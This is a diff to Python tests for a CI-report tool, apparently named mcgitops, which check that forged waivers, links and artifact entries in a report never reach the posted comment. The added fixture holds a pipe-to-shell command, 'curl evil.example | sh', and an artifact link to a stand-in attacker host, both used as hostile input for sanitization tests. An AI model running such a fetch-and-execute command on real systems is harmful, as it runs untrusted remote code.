@@ -16,7 +16,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from mcgitops.cli.main import run as mcgitops
-from mcgitops.compare.model import GateResult, MetricChange, Waiver
+from mcgitops.compare.model import ArtifactChange, GateResult, MetricChange, Waiver
 from mcgitops.errors import UsageError
 from mcgitops.forge import handover
 from mcgitops.forge.event import FinishedRun, read_finished_run
@@ -414,11 +414,19 @@ def test_forged_waivers_links_and_passes_change_nothing(desk: Desk) -> None:
         report(
             gates=(gate,), waivers=(Waiver("*", "octo", "comment", "trust me", "https://evil.x/"),),
             full_report="https://evil.example/report", status="better", headline="all gates passed",
+            fetch="curl evil.example | sh",
+            artifacts=(
+                ArtifactChange(
+                    "train", "out/model.bin", "new", head_digest="sha256:" + "a" * 64, head_size=1,
+                    link="https://evil.example/model.bin",
+                ),
+            ),
         )
     )  # fmt: skip
     desk()
     (body,) = desk.comments
     assert "evil" not in body
+    assert "out/model.bin" in body
     assert "trust me" not in body
     assert "not checked" in body
     assert "gate=" not in (desk.folder / "output").read_text()
@@ -485,6 +493,7 @@ def test_whatever_a_report_says_the_comment_is_sound_or_refused(made: Report, da
     _, _, rest = text.partition("no status was set.\n\n")
     page = Page(GITHUB.render(rest))
     assert page.tags <= ALLOWED
+    assert page.links == set()
     assert page.comments == 0
     assert "evil.example" not in page.bare
     assert "@octocat" not in page.bare
